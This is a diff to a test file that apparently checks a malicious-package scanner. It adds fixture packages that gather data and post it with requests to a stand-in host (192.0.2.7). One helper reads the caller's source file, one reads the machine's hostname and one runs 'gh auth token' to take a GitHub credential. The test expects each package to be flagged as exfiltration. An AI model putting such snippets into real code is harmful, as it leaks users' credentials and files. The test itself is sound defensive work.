@@ -1221,3 +1221,23 @@ def test_exfil_flow_of_a_dotenv_file_a_helper_reads(tmp_path: Path, helper: str)
         tmp_path, {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_cfg.py": helper}
     )
     assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow") for f in findings), findings
+
+
+@pytest.mark.parametrize(
+    "helper",
+    [
+        "import inspect\n\ndef grab():\n    f = inspect.currentframe().f_back\n"
+        "    return open(f.f_code.co_filename).read()\n",
+        "import socket\n\ndef grab():\n    return socket.getfqdn()\n",
+        "import subprocess\n\ndef grab():\n"
+        "    return subprocess.check_output(['gh', 'auth', 'token']).decode()\n",
+    ],
+    ids=["caller-source", "identity", "credential-command"],
+)
+def test_exfil_flow_of_what_a_helper_module_gathers(tmp_path: Path, helper: str) -> None:
+    # the helper module's only source is one the source hint must name for it to be summarised
+    init = "import requests\nfrom ._probe import grab\nrequests.post('https://192.0.2.7/c', data=grab())\n"
+    verdict, findings = scan_package(
+        tmp_path, {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_probe.py": helper}
+    )
+    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow") for f in findings), findings
